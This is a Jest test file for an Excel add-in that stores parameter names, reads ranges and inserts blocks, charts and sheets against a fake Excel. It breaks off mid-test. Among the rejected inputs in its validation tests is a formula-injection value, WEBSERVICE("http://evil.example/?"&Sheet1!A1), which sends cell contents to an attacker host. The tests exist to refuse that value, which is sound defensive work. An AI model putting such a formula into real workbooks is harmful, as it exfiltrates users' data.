import { excelHost, onCommand } from "../../src/host/excel";
import { InsertRefused, Unsupported, type Block, type SheetPlan } from "../../src/host/host";
import { figuresMark } from "../../src/host/stored";
import { NEW_WORKBOOK } from "../taskpane/fake-host";
import { FakeBook, FakeError, fakeOffice } from "./fake-excel";

let book: FakeBook;

beforeEach(() => {
  book = new FakeBook();
  Object.assign(globalThis, fakeOffice(book));
});

const select = (address: string, sheet = "Sheet1"): void => {
  book.selected = { sheet, address };
};
const notes = (sheet = "Sheet1"): Record<string, string> => Object.fromEntries(book.sheet(sheet).notes);
const lookOf = (address: string, sheet = "Sheet1"): Record<string, unknown> | undefined =>
  book.sheet(sheet).cells.get(address)?.look;
const formatOf = (address: string, sheet = "Sheet1"): string | undefined =>
  book.sheet(sheet).cells.get(address)?.format;
/** All that is known of the workbook once Excel has answered. */
const readWorkbook = async () => {
  const { namedYear, namedIndexation, namedFigures } = await excelHost.readNamed();
  return { ...excelHost.storedState(), namedYear, namedIndexation, namedFigures };
};
const editing = new FakeError("InvalidOperationInCellEditMode");

describe("what the workbook keeps", () => {
  it("is nothing in one where nobody chose", async () => {
    await expect(readWorkbook()).resolves.toEqual(NEW_WORKBOOK);
  });

  it("is told at once, without a request, also where the first request never comes back", async () => {
    await excelHost.writeParameters({ year: 2019, indexation: null });
    await excelHost.writeOwnFigures("a list");
    book.requests.splice(0);
    book.hangs = Infinity;
    expect(excelHost.storedState()).toMatchObject({
      parameters: { year: 2019, indexation: null },
      ownFigures: "a list",
    });
    expect(book.requests).toEqual([]);
    const asked = excelHost.readNamed().then(() => "answered");
    expect(await Promise.race([asked, settled().then(() => "nothing")])).toBe("nothing");
  });

  it("year and indexation are stored, shown as names, and recalculate every formula of this workbook", async () => {
    book.addSheet("Sheet2");
    await excelHost.writeParameters({ year: 2028, indexation: "0.02" });
    expect(Object.fromEntries(book.names)).toEqual({ PARAMETER_YEAR: "=2028", PARAMETER_INDEXATION: "=2/100" });
    expect([book.calculations, book.othersCalculated]).toEqual([1, 0]);
    await expect(readWorkbook()).resolves.toEqual({
      ...NEW_WORKBOOK,
      parameters: { year: 2028, indexation: "0.02" },
      namedYear: 2028,
      namedIndexation: "0.02",
    });
  });

  it("an indexation is named where numbers have a comma, and another one after it", async () => {
    book.decimalSign = ",";
    await excelHost.writeParameters({ year: 2028, indexation: "0.025" });
    await excelHost.writeParameters({ year: 2028, indexation: "-0.005" });
    expect(book.names.get("PARAMETER_INDEXATION")).toBe("=-5/1000");
    await expect(readWorkbook()).resolves.toMatchObject({ namedIndexation: "-0.005" });
  });

  it("a year without indexation makes no name for it", async () => {
    await excelHost.writeParameters({ year: 2024, indexation: null });
    expect(Object.fromEntries(book.names)).toEqual({ PARAMETER_YEAR: "=2024" });
    await expect(readWorkbook()).resolves.toMatchObject({ parameters: { year: 2024, indexation: null } });
  });

  it("the name of an indexation that is no longer assumed holds an empty text, for formulas use it", async () => {
    await excelHost.writeParameters({ year: 2028, indexation: "0.02" });
    await excelHost.writeParameters({ year: 2025, indexation: null });
    expect(Object.fromEntries(book.names)).toEqual({ PARAMETER_YEAR: "=2025", PARAMETER_INDEXATION: '=""' });
    await expect(readWorkbook()).resolves.toMatchObject({ parameters: { year: 2025, indexation: null } });
  });

  it.each([
    ["=2019", 2019],
    ['="next year"', NaN],
    ["=Sheet1!$B$1", 2017],
    ["=Sheet1!$B$2", NaN],
    ['="2019"', NaN],
  ])("a year that somebody edited to %s reads as %s", async (formula, namedYear) => {
    book.type({ B1: 2017 });
    book.names.set("PARAMETER_YEAR", formula);
    await expect(readWorkbook()).resolves.toMatchObject({ namedYear });
  });

  it("a name is not told while another window has the focus: it is neither broken nor missing", async () => {
    await excelHost.writeParameters({ year: 2028, indexation: "0.02" });
    book.toldOfNames = "values";
    await expect(readWorkbook()).resolves.toMatchObject({ namedYear: 2028, namedIndexation: "0.02" });
    book.toldOfNames = "nothing";
    await expect(readWorkbook()).resolves.toMatchObject({ namedYear: undefined, namedIndexation: undefined });
    await expect(excelHost.readNames(["PARAMETER_YEAR"])).resolves.toEqual([null]);
    // What reads like a text may be the address of a range.
    book.toldOfNames = "values";
    book.names.set("PARAMETER_YEAR", '="Sheet1!$B$1"');
    await expect(readWorkbook()).resolves.toMatchObject({ namedYear: undefined });
  });

  it.each(['="a lot"', "=TRUE", "=Sheet1!$B$1"])("a growth that somebody edited to %s is none", async (formula) => {
    book.type({ B1: "a lot" });
    book.names.set("PARAMETER_INDEXATION", formula.replace("TRUE", "true"));
    await expect(readWorkbook()).resolves.toMatchObject({ namedIndexation: undefined });
  });

  it.each([
    [false, false],
    [true, true],
  ])("days count from 1904: %s", async (from1904, told) => {
    book.from1904 = from1904;
    await expect(excelHost.readNamed()).resolves.toMatchObject({ from1904: told });
  });

  it("names are told also where Excel cannot tell how days are counted", async () => {
    await excelHost.writeParameters({ year: 2019, indexation: null });
    book.failure = (operation) => (operation === "Functions.date" ? "GeneralException" : undefined);
    await expect(excelHost.readNamed()).resolves.toEqual({
      namedYear: 2019,
      namedIndexation: null,
      namedFigures: null,
      from1904: undefined,
    });
  });

  it("what names and options told is kept without a request, and known at once next time", async () => {
    await excelHost.keep({ parameters: { year: 2027, indexation: "0.02" }, from1904: true });
    expect(book.requests).toEqual([]);
    expect(excelHost.storedState()).toMatchObject({
      parameters: { year: 2027, indexation: "0.02" },
      from1904: true,
    });
    await excelHost.keep({ from1904: false });
    expect(excelHost.storedState()).toMatchObject({ parameters: { year: 2027 }, from1904: false });
    expect(book.settings.has("datesFrom1904")).toBe(false);
  });

  it("asks nobody to trust the add-in as soon as anything is kept, unless somebody wants it so", async () => {
    await excelHost.readNamed();
    expect(book.settings.size).toBe(0);
    await excelHost.writeDataVersion("1");
    expect(book.settings.get("Office.DisableTrustUX")).toBe(true);
    expect(excelHost.storedState().asksTrust).toBe(false);
    await excelHost.writeAsksTrust(true);
    await excelHost.writeDataVersion("2");
    expect(book.settings.get("Office.DisableTrustUX")).toBe(false);
    expect(excelHost.storedState().asksTrust).toBe(true);
    await excelHost.writeAsksTrust(false);
    expect(book.settings.get("Office.DisableTrustUX")).toBe(true);
  });

  it.each([2026.5, -1, 1e9, 2014, 2101, NaN, Infinity, "2026", "=WEBSERVICE(A1)", true])(
    "a year %p is none: it is told and not taken",
    async (year) => {
      book.settings.set("parameterYear", year);
      book.settings.set("parameterIndexation", "0.02");
      const state = await readWorkbook();
      expect(state).toMatchObject({ parameters: null, unfit: { year: String(year).slice(0, 40) } });
    },
  );

  it.each([
    'WEBSERVICE("http://evil.example/?"&Sheet1!A1)',
    "abc",
    "",
    "-1",
    "1.01",
    "1e-2",
    "0,02",
    " 0.02",
    "+0.02",
    0.02,
    "0.1234567890123456",
  ])("an indexation %p is none: it is told and not taken", async (indexation) => {
    book.settings.set("parameterYear", 2027);
    book.settings.set("parameterIndexation", indexation);
    const state = await readWorkbook();
    expect(state).toMatchObject({
      parameters: { year: 2027, indexation: null },
      unfit: { indexation: String(indexation).slice(0, 40) },
    });
  });

  it.each(["-0.99", "0", "1", "0.025", "-0.0000000001", "0.12345678901234500000"])(
    "an indexation %p is one",
    async (indexation) => {
      book.settings.set("parameterYear", 2027);
      book.settings.set("parameterIndexation", indexation);
      const state = await readWorkbook();
      expect(state).toEqual({ ...NEW_WORKBOOK, parameters: { year: 2027, indexation } });
    },
  );

  it.each([
    { year: 2027, indexation: 'WEBSERVICE("http://evil.example/?"&Sheet1!A1)' },
    { year: 2027, indexation: "1+1" },
    { year: 2026.5, indexation: null },
    { year: "1+1" as unknown as number, indexation: null },
  ])("nothing but a year and a decimal becomes the formula of a name: not %p", async (parameters) => {
    await expect(excelHost.writeParameters(parameters)).rejects.toBeInstanceOf(RangeError);
    expect(book.names.size + book.settings.size).toBe(0);
  });

  it("a version of the data is shown no longer than ours are", async () => {
    book.settings.set("dataVersion", "x".repeat(100_000));
    expect((await readWorkbook()).dataVersion).toHaveLength(60);
  });

  it("nothing is stored when Excel refuses the calculation", async () => {
    book.failure = (operation) => (operation.startsWith("Worksheet.calculate") ? editing : undefined);
    await expect(excelHost.writeParameters({ year: 2024, indexation: null })).rejects.toBe(editing);
    expect(book.settings.size).toBe(0);
  });

  it("fails with Office's words when the workbook cannot keep it", async () => {
    book.failure = (operation) => (operation === "Settings.save" ? "read-only" : undefined);
    await expect(excelHost.writeParameters({ year: 2024, indexation: null })).rejects.toThrow("read-only");
    await expect(excelHost.writeDataVersion("1")).rejects.toThrow("read-only");
  });

  it("is read when whoever types while the workbook opens is done, and so are the formulas calculated", async () => {
    await excelHost.writeParameters({ year: 2019, indexation: null });
    book.isEditing = true;
    const opened = readWorkbook().then(async (state) => {
      await excelHost.recalculate();
      return state;
    });
    setTimeout(() => (book.isEditing = false), 20);
    await expect(opened).resolves.toMatchObject({ parameters: { year: 2019 }, namedYear: 2019 });
    expect(book.calculations).toBe(2);
  });

  it("its own figures are stored and recalculate every formula; without any nothing is left", async () => {
    await excelHost.writeOwnFigures("a list");
    await expect(readWorkbook()).resolves.toMatchObject({ ownFigures: "a list" });
    expect(book.calculations).toBe(1);
    await excelHost.writeOwnFigures("");
    expect(book.settings.has("ownFigures")).toBe(false);
  });

  it("a list of own figures has a mark that reaches others, in a name that nobody sees", async () => {
    await excelHost.writeOwnFigures("");
    expect(book.names.size).toBe(0);
    await excelHost.writeOwnFigures("a list");
    expect([...book.hiddenNames]).toEqual(["OWN_FIGURES_MARK"]);
    const { namedFigures } = await excelHost.readNamed();
    expect(namedFigures).toBe(figuresMark("a list"));
    await excelHost.writeOwnFigures("another list");
    expect((await excelHost.readNamed()).namedFigures).toBe(figuresMark("another list"));
    expect(figuresMark("another list")).not.toBe(namedFigures);
    await excelHost.writeOwnFigures("");
    expect((await excelHost.readNamed()).namedFigures).toBe(0);
  });

  it("a list that changes no answer calculates nothing", async () => {
    await excelHost.writeOwnFigures("a list", true);
    expect(excelHost.storedState().ownFigures).toBe("a list");
    expect(book.calculations).toBe(0);
  });

  it("own figures are not stored when Excel refuses the calculation, and what is no text is no list", async () => {
    book.failure = (operation) => (operation.startsWith("Worksheet.calculate") ? editing : undefined);
    await expect(excelHost.writeOwnFigures("a list")).rejects.toBe(editing);
    expect(book.settings.size).toBe(0);
    book.settings.set("ownFigures", { figures: [] });
    expect((await readWorkbook()).ownFigures).toBe("");
  });

  it("the version of the data is noted", async () => {
    await excelHost.writeDataVersion("4fa26596 2026-12-31");
    await expect(readWorkbook()).resolves.toMatchObject({ dataVersion: "4fa26596 2026-12-31" });
  });

  it("recalculates every formula, sheet by sheet, and what depends on them, but no other workbook", async () => {
    book.addSheet("Sheet2");
    await excelHost.recalculate();
    expect(book.requests.flat()).toEqual([
      "Worksheet.calculate Sheet1 true",
      "Worksheet.calculate Sheet2 true",
      "Application.calculate Recalculate",
    ]);
    expect([book.calculations, book.othersCalculated]).toEqual([1, 0]);
  });

  it("tells when the user comes back to the pane or to the workbook, until told to stop", async () => {
    const listener = jest.fn();
    const stop = excelHost.onReturn(listener);
    await settled();
    const show = (visibilityMode: string) => book.visibilityListeners.forEach((tell) => tell({ visibilityMode }));
    const activate = () => Promise.all([...book.activationListeners].map((tell) => tell()));
    show("Hidden");
    expect(listener).not.toHaveBeenCalled();
    show("Taskpane");
    await activate();
    expect(listener).toHaveBeenCalledTimes(2);
    stop();
    await settled();
    show("Taskpane");
    await activate();
    expect(listener).toHaveBeenCalledTimes(2);
    expect(book.activationListeners.size).toBe(0);
  });

  it("asks an older Excel for nothing that it does not have", async () => {
    book.supportsActivation = false;
    excelHost.onReturn(jest.fn())();
    await settled();
    expect(book.requests).toEqual([]);
  });
});

describe("the selection", () => {
  beforeEach(() => {
    book.answers.set("=ONE()", 768.79);
    book.answers.set("=TABLE()", [
      ["fund", "rate"],
      ["Acerta", 0.0305],
    ]);
    book.addSheet("My sheet");
    book.type({ A1: "=ONE()", A3: "=TABLE()", C1: "'=ONE()", D1: 12 }, "My sheet");
  });

  it.each([
    ["A1", { formula: "=ONE()", value: 768.79, text: "768.79" }],
    ["A3", { formula: "=TABLE()", value: "fund", text: "fund" }],
    ["B1", { formula: null, value: null, text: "" }],
    ["C1", { formula: null, value: "=ONE()", text: "=ONE()" }],
    ["D1", { formula: null, value: 12, text: "12" }],
  ])("%s", async (address, content) => {
    select(address, "My sheet");
    await expect(excelHost.selectedCell()).resolves.toEqual({ sheet: "My sheet", address, ...content });
  });

  it("a cell that another one fills names that one", async () => {
    select("B4", "My sheet");
    await expect(excelHost.selectedCell()).resolves.toEqual({
      sheet: "My sheet",
      address: "B4",
      formula: null,
      value: 0.0305,
      text: "0.0305",
      spilledFrom: { address: "A3", formula: "=TABLE()", row: 1, column: 1 },
    });
  });

  it("is the upper left cell of a range", async () => {
    select("A1:D4", "My sheet");
    await expect(excelHost.selectedCell()).resolves.toMatchObject({ address: "A1" });
  });

  it.each([
    ["Sheet1", "B2", "Sheet1!B2"],
    ["My sheet", "A2:A10", "'My sheet'!A2:A10"],
    ["L'année", "A2", "'L''année'!A2"],
    ["A1", "A2", "'A1'!A2"],
    ["2026", "A2", "'2026'!A2"],
    ["R1C1", "A2", "'R1C1'!A2"],
  ])("a range of the sheet %s is named as a formula names it", async (name, address, named) => {
    if (!book.sheets.some((sheet) => sheet.name === name)) book.addSheet(name);
    select(address, name);
    await expect(excelHost.selectedRange()).resolves.toBe(named);
  });

  it("goes to a cell of another sheet", async () => {
    await excelHost.select({ sheet: "My sheet", address: "C1" });
    expect(book.selected).toEqual({ sheet: "My sheet", address: "C1" });
  });

  it("tells of changes until told to stop", async () => {
    const listener = jest.fn();
    const change = () => Promise.all([...book.selectionListeners].map((listen) => listen()));
    const stop = excelHost.onSelectionChange(listener);
    await settled();
    await change();
    expect(listener).toHaveBeenCalledTimes(1);
    const [listen] = book.selectionListeners;
    stop();
    // Excel may still call what it has not taken off yet.
    await listen!();
    await settled();
    expect(book.selectionListeners.size).toBe(0);
    expect(listener).toHaveBeenCalledTimes(1);
  });

  it("survives an Excel that tells nothing", async () => {
    book.failure = (operation) => (operation === "onSelectionChanged.add" ? editing : undefined);
    const stop = excelHost.onSelectionChange(jest.fn());
    await settled();
    stop();
    await settled();
    expect(book.selectionListeners.size).toBe(0);
  });
});

const settled = (): Promise<void> => new Promise((resolve) => setTimeout(resolve));

describe("ranges", () => {
  beforeEach(() => {
    book.answers.set('=""', "");
    book.type({ A2: 1, B2: "two", A4: "#N/A", B4: '=""' });
  });

  it("come by rows, with null for a blank cell alone", async () => {
    await expect(excelHost.readRanges([{ sheet: "Sheet1", address: "A2:B4" }])).resolves.toEqual([
      [
        [1, "two"],
        [null, null],
        ["#N/A", ""],
      ],
    ]);
  });

  it.each([
    ["A:A", [[null], [1], [null], ["#N/A"]]],
    ["$B:$B", [[null], ["two"], [null], [""]]],
    ["4:4", [["#N/A", ""]]],
    ["D:D", [[null], [null], [null], [null]]],
  ])("%s ends where the sheet's use does", async (address, values) => {
    await expect(excelHost.readRanges([{ sheet: "Sheet1", address }])).resolves.toEqual([values]);
  });

  it("a whole column of an empty sheet is a blank cell", async () => {
    book.addSheet("Empty");
    await expect(excelHost.readRanges([{ sheet: "Empty", address: "A:B" }])).resolves.toEqual([[[null, null]]]);
  });

  it("one that does not exist is null and keeps nothing from the others", async () => {
    const places = ["A2", "A0", "XFE1", "A1048577", "A2:B", "name", "A1:B2:C3", ""];
    const ranges = places.map((address) => ({ sheet: "Sheet1", address }));
    await expect(excelHost.readRanges([...ranges, { sheet: "Gone", address: "A1" }])).resolves.toEqual([
      [[1]],
      ...Array.from({ length: places.length }, () => null),
    ]);
  });

  it("are asked for one by one where Excel refuses them together", async () => {
    book.addSheet("Other");
    book.type({ A1: 5 }, "Other");
    book.failure = (operation) => (operation === "Range.values Other!A1" ? "ItemNotFound" : undefined);
    await expect(
      excelHost.readRanges([
        { sheet: "Sheet1", address: "A2" },
        { sheet: "Other", address: "A1" },
        { sheet: "Sheet1", address: "B2" },
      ]),
    ).resolves.toEqual([[[1]], null, [["two"]]]);
  });

  it("are no more than 20,000 cells a request", async () => {
    book.type({ A30000: "last" });
    const [values] = await excelHost.readRanges([{ sheet: "Sheet1", address: "A:A" }]);
    expect(values).toHaveLength(30_000);
    expect(values!.at(-1)).toEqual(["last"]);
    // The sheet, its use, and two parts.
    expect(book.requests).toHaveLength(4);
  });

  it("fail where Excel itself does", async () => {
    book.failure = (operation) => (operation.startsWith("Range.values") ? editing : undefined);
    await expect(excelHost.readRanges([{ sheet: "Sheet1", address: "A2" }])).rejects.toBe(editing);
  });

  it("what the formula of a cell fills", async () => {
    book.answers.set("=SPREAD", [
      [1, 2],
      [3, 4],
    ]);
    book.type({ D2: "=SPREAD" });
    const ask = ["D2#", "A2#", "D2:E3#"].map((address) => ({ sheet: "Sheet1", address }));
    await expect(excelHost.readRanges([...ask, { sheet: "Gone", address: "A1#" }])).resolves.toEqual([
      [
        [1, 2],
        [3, 4],
      ],
      null,
      [
        [1, 2],
        [3, 4],
      ],
      null,
    ]);
  });

  it("tables by their names, and the one around a cell", async () => {
    book.type({ A6: "Income", A7: 40_000, A8: 50_000 });
    const columns = ["Income"];
    book.tables.push({
      name: "Data",
      sheet: "Sheet1",
      address: "A6:A8",
      columns,
      showHeaders: true,
      showTotals: false,
    });
    const data = {
      sheet: "Sheet1",
      row: 5,
      column: 0,
      hasHeaders: true,
      hasTotals: false,
      columns,
      values: [["Income"], [40_000], [50_000]],
    };
    const at = (address: string) => ({ sheet: "Sheet1", address });
    await expect(excelHost.readTables(["data", "Gone", ""], at("A8"))).resolves.toEqual([data, null, data]);
    await expect(excelHost.readTables([""], at("B8"))).resolves.toEqual([null]);
  });

  it("names stand for constants, lists and ranges", async () => {
    book.names.set("YEAR", "=2026");
    book.names.set("NONE", '=""');
    book.names.set("LIST", "={1,2,3}");
    book.names.set("CELLS", "=Sheet1!$A$2:$B$2");
    await expect(excelHost.readNames(["YEAR", "GONE", "NONE", "LIST", "CELLS"])).resolves.toEqual([
      [[2026]],
      null,
      [[""]],
      [[1, 2, 3]],
      [[1, "two"]],
    ]);
  });
});

const BLOCK: Block = {
  rows: [
    [{ content: "Fees", style: "title" }],
    [
      { content: "fund", style: "head" },
      { content: "fee 2026", style: "headRight" },
    ],
    [{ content: "Acerta" }, { content: 0.0305, format: "0.00%" }],
    [{ content: "2026-01" }, { content: "=FEE(A1)", format: "0.00%", style: "result" }],
    [{ style: "input" }, {}],
  ],
};

describe("a block", () => {
  beforeEach(() => {
    book.answers.set("=FEE(A1)", 0.0405);
    select("B2:D9");
  });

  it("is written at the selected cell, with formats and looks", async () => {
    await expect(excelHost.insertBlock(BLOCK)).resolves.toBe("Sheet1!B2:C6");
    expect(book.values()).toEqual({
      B2: "Fees",
      B3: "fund",
      C3: "fee 2026",
      B4: "Acerta",
      C4: 0.0305,
      B5: "2026-01",
      C5: 0.0405,
    });
    expect(book.formulasOf()).toEqual({ C5: "=FEE(A1)" });
    expect([formatOf("C4"), formatOf("C5"), formatOf("B4")]).toEqual(["0.00%", "0.00%", "General"]);
    expect(lookOf("B2")).toEqual({ "font.bold": true, "font.size": 18, "font.color": "#0d4a57" });
    expect(lookOf("C3")).toMatchObject({ "fill.color": "#e0eef0", horizontalAlignment: "Right" });
    expect(lookOf("B6")).toMatchObject({ "fill.color": "#fff4d6" });
    expect(lookOf("C6")).toBeUndefined();
  });

  it.each(["2026-01", "1/2", "12", "-5", "+1", "TRUE", "false", "May 2026", "'quoted", "@SUM(1)", "3,5 %", "#N/A"])(
    "keeps the text %s a text",
    async (content) => {
      await excelHost.insertBlock({ rows: [[{ content }]] });
      expect(book.values()).toEqual({ B2: content });
      expect(book.formulasOf()).toEqual({});
    },
  );

  it("runs nothing that is literal, whatever it looks like", async () => {
    const literal = { literal: true } as const;
    await excelHost.insertBlock({
      rows: [
        [
          { content: "=FEE(A1)", ...literal },
          { content: "=FEE(A1)", format: "@", ...literal },
        ],
        [
          { content: "plain", ...literal },
          { content: 12, ...literal },
        ],
      ],
    });
    expect(book.values()).toEqual({ B2: "=FEE(A1)", C2: "=FEE(A1)", B3: "plain", C3: 12 });
    expect(book.formulasOf()).toEqual({});
  });

  it("takes nothing for a formula because the cells were formatted as text", async () => {
    for (const [row, column] of [
      [1, 1],
      [1, 2],
      [1, 3],
    ] as const) {
      book.cell(book.sheet("Sheet1"), row, column).format = "@";
    }
    await excelHost.insertBlock({
      rows: [[{ content: "=FEE(A1)" }, { content: 12 }, { content: "2026-01" }, { content: "=FEE(A1)", format: "@" }]],
    });
    expect(book.values()).toEqual({ B2: 0.0405, C2: 12, D2: "2026-01", E2: 0.0405 });
    expect(["B2", "C2", "D2", "E2"].map((address) => formatOf(address))).toEqual([
      "General",
      "General",
      "@",
      "General",
    ]);
  });

  it.each([
    ["a value", { C6: 0 }],
    ["a formula with an empty result", { B4: '=""' }],
    ["a value that a formula fills in", { B1: "=DOWN()" }],
  ])("does not overwrite %s", async (_, inputs) => {
    book.answers.set('=""', "");
    book.answers.set("=DOWN()", [[1], [2]]);
    book.type(inputs as Record<string, string | number>);
    const before = book.values();
    await expect(excelHost.insertBlock(BLOCK)).rejects.toEqual(new InsertRefused("occupied", "Sheet1!B2:C6"));
    expect(book.values()).toEqual(before);
  });

  it("may stand beside what is there, also under its charts", async () => {
    book.type({ D2: 1, B7: 2 });
    await expect(excelHost.insertBlock({ ...BLOCK, charts: [CHART] })).resolves.toBe("Sheet1!B2:C6");
  });

  it("is refused at the edge of the sheet", async () => {
    select("XFD1");
    await expect(excelHost.insertBlock(BLOCK)).rejects.toMatchObject({ reason: "edge" });
  });

  it.each([
    ["cells", { allowFormatCells: true, allowEditObjects: true }, []],
    ["formats", { allowFormatCells: false, allowEditObjects: true }, []],
    ["charts", { allowFormatCells: true, allowEditObjects: false }, [true]],
  ])("is refused where the sheet's %s are locked, and leaves no half of itself", async (_, protection, charts) => {
    const sheet = book.sheet("Sheet1");
    sheet.protection = protection;
    const block = { ...BLOCK, charts: charts.map(() => CHART) };
    await expect(excelHost.insertBlock(block)).rejects.toEqual(new InsertRefused("locked", "Sheet1!B2:C6"));
    expect(book.values()).toEqual({});
    expect([...sheet.cells.values()].filter(({ format }) => format !== "General")).toEqual([]);
  });

  it("goes again when its chart fails", async () => {
    book.failure = (operation) => (operation === "Charts.add" ? "GeneralException" : undefined);
    await expect(excelHost.insertBlock({ ...BLOCK, charts: [CHART] })).rejects.toMatchObject({
      code: "GeneralException",
    });
    expect(book.values()).toEqual({});
    expect(formatOf("C4")).toBe("General");
  });

  it("makes columns wider for its table, and none narrower", async () => {
    book.sheet("Sheet1").widths.set(1, 300);
    await excelHost.insertBlock({
      rows: [
        [{ content: "A title that runs over its neighbours and asks for no room", style: "title" }],
        [{ content: "fund" }, { content: "the rate of the fee" }],
      ],
    });
    expect(book.sheet("Sheet1").widths.get(1)).toBe(300);
    expect(book.sheet("Sheet1").widths.get(2)).toBe(6 * "the rate of the fee".length);
  });

  it("makes room for a table that a formula fills, up to a limit, and for heads of several lines", async () => {
    const fund = "Sociaal Verzekeringsfonds Xerius";
    book.answers.set("=FEE(A1)", [
      ["fund", "remark"],
      [fund, "A remark ".repeat(20)],
    ]);
    await excelHost.insertBlock({
      rows: [
        [{ content: "Fees", style: "title" }],
        [{ content: "=FEE(A1)", style: "head" }, { style: "head" }],
        [{}, {}],
        [],
      ],
    });
    const { widths } = book.sheet("Sheet1");
    expect([widths.get(1), widths.get(2)]).toEqual([6 * fund.length, 260]);
    expect(book.requests.flat().filter((request) => request.includes("autofitRows"))).toEqual([
      "RangeFormat.autofitRows Sheet1!B3:C3",
    ]);
  });

  it("waits for the functions before it measures", async () => {
    book.answers.set("=FEE(A1)", "#BUSY!");
    setTimeout(() => book.answers.set("=FEE(A1)", "a long answer"), 50);
    await excelHost.insertBlock({ rows: [[{ content: "fund" }, { content: "=FEE(A1)" }]] });
    expect(book.sheet("Sheet1").widths.get(2)).toBe(6 * "a long answer".length);
  });
});

const CHART = {
  kind: "bar",
  title: "Fee of each fund",
  categories: { row: 2, column: 0, rows: 2, columns: 1 },
  series: [
    { name: "2026", values: { row: 2, column: 1, rows: 2, columns: 1 } },
    { name: "2027", values: { row: 2, column: 2, rows: 2, columns: 1 } },
  ],
  place: { row: 6, column: 0, rows: 10, columns: 4 },
  format: "0.00%",
} as const;

describe("a chart", () => {
  it("has the series that it asks for and no other, over its place", async () => {
    select("B2");
    await excelHost.insertBlock({ ...BLOCK, charts: [CHART] });
    expect(book.sheet("Sheet1").charts).toEqual([
      expect.objectContaining({
        type: "BarClustered",
        position: "B8:E17",
        series: [
          { name: "2026", values: "Sheet1!C4:C5", categories: "Sheet1!B4:B5", look: { "fill.color": "#1f7a80" } },
          { name: "2027", values: "Sheet1!D4:D5", categories: "Sheet1!B4:B5", look: { "fill.color": "#c87414" } },
        ],
      }),
    ]);
    expect(book.sheet("Sheet1").charts[0]!.look).toMatchObject({
      "title.text": "Fee of each fund",
      "legend.visible": true,
      "axes.valueAxis.numberFormat": "0.00%",
      "axes.categoryAxis.reversePlotOrder": true,
    });
  });

  it.each([
    ["column", "ColumnClustered"],
    ["line", "Line"],
  ] as const)("of the kind %s", async (kind, type) => {
    await excelHost.insertBlock({ ...BLOCK, charts: [{ ...CHART, kind, series: [CHART.series[0]] }] });
    const [chart] = book.sheet("Sheet1").charts;
    expect(chart).toMatchObject({ type, look: { "legend.visible": false } });
    expect(chart!.look).not.toHaveProperty(["axes.categoryAxis.reversePlotOrder"]);
    expect(Object.values(chart!.series[0]!.look)).toEqual(["#1f7a80"]);
  });
});

const SHEET: SheetPlan = {
  ...BLOCK,
  name: "Projection",
  widths: [200, 96],
  landscape: true,
  choices: [{ row: 4, column: 0, values: ["principal", "complementary"] }],
  charts: [CHART],
};

describe("a sheet", () => {
  beforeEach(() => book.answers.set("=FEE(A1)", 0.0405));

  it("comes with contents, widths, lists, charts and the layout of its pages, and is shown", async () => {
    await expect(excelHost.insertSheet(SHEET)).resolves.toBe("Projection");
    const sheet = book.sheet("Projection");
    expect(book.values("Projection")).toMatchObject({ A1: "Fees", A4: "2026-01", B4: 0.0405 });
    expect(Object.fromEntries(sheet.widths)).toEqual({ 0: 150, 1: 72 });
    expect(sheet.cells.get("A5")).toMatchObject({ choices: "principal,complementary", refusesOthers: false });
    expect(sheet.charts).toHaveLength(1);
    expect(sheet.showGridlines).toBe(false);
    expect(sheet.page).toEqual({
      orientation: "Landscape",
      zoom: { horizontalFitToPages: 1 },
      centerHorizontally: true,
      printArea: "Projection!A1:D16",
      "headersFooters.defaultForAllPages.leftFooter": "&A",
      "headersFooters.defaultForAllPages.rightFooter": "&P / &N",
    });
    expect(book.selected).toEqual({ sheet: "Projection", address: "A1" });
  });

  it("keeps rows and columns in sight", async () => {
    await excelHost.insertSheet({ ...SHEET, frozen: { rows: 3, columns: 2 } });
    expect(book.sheet("Projection").frozen).toBe("Projection!A1:B3");
  });

  it("that is a letter prints on one page, with nothing around it", async () => {
    await excelHost.insertSheet({ ...SHEET, landscape: false, isLetter: true });
    const { page } = book.sheet("Projection");
    expect(page["orientation"]).toBe("Portrait");
    expect(page["zoom"]).toEqual({ horizontalFitToPages: 1, verticalFitToPages: 1 });
    expect(Object.keys(page).filter((key) => key.startsWith("headersFooters"))).toEqual([]);
  });

  it("with many rows of one look styles them at once", async () => {
    const rows = Array.from({ length: 400 }, () => [
      { content: "x", style: "inputText" as const },
      {},
      { content: 1, style: "input" as const },
    ]);
    await excelHost.insertSheet({ ...SHEET, rows, charts: [], choices: [] });
    const done = book.requests.flat().filter((request) => request.startsWith("Range.horizontalAlignment"));
    expect(done).toHaveLength(2);
    expect(book.sheet("Projection").cells.get("C400")!.look).toMatchObject({ horizontalAlignment: "Right" });
  });

  it.each([
    ["Projection", [], "Projection"],
    ["projection", ["Projection", "Projection (2)"], "projection (3)"],
    ["Fees: 2026/2027 [all]?", [], "Fees 2026 2027 all"],
    ["'quoted'", [], "quoted"],
    ["A name that is much longer than Excel takes", [], "A name that is much longer than"],
    [
      "A name that is much longer than Excel takes",
      ["A name that is much longer than"],
      "A name that is much longer (2)",
    ],
  ])("wished as %s beside %j is named %s", async (name, taken, expected) => {
    for (const other of taken) book.addSheet(other);
    await expect(excelHost.insertSheet({ ...SHEET, name })).resolves.toBe(expected);
  });

  it.each(["Range.formulas Projection!A1:B5", "Range.dataValidation Projection!A5", "Charts.add", "Series.setValues"])(
    "is gone again when %s fails",
    async (failing) => {
      book.failure = (operation) => (operation === failing ? "GeneralException" : undefined);
      await expect(excelHost.insertSheet(SHEET)).rejects.toMatchObject({ code: "GeneralException" });
      expect(book.sheets.map(({ name }) => name)).toEqual(["Sheet1"]);
    },
  );

  it("with many rows comes in several requests, also with rows that are empty", async () => {
    const rows = Array.from({ length: 1_100 }, (_, row) => (row < 600 ? [] : [{ content: row }, { content: "x" }]));
    await excelHost.insertSheet({ ...SHEET, rows, charts: [], choices: [] });
    expect(Object.keys(book.values("Projection"))).toHaveLength(1_000);
    expect(book.values("Projection")).toMatchObject({ A601: 600, B601: "x", A1100: 1_099 });
    expect(book.requests.filter((request) => request.some((done) => done.startsWith("Range.formulas")))).toHaveLength(
      3,
    );
  });

  it("goes when whoever typed into a cell meanwhile is done", async () => {
    book.failure = (operation) => {
      if (!operation.startsWith("Series.set")) return undefined;
      book.isEditing = true;
      return editing;
    };
    const inserting = excelHost.insertSheet(SHEET);
    setTimeout(() => (book.isEditing = false), 50);
    await expect(inserting).rejects.toMatchObject({ code: "InvalidOperationInCellEditMode" });
    expect(book.sheets.map(({ name }) => name)).toEqual(["Sheet1"]);
  });

  it("comes also where no printer lays out its pages", async () => {
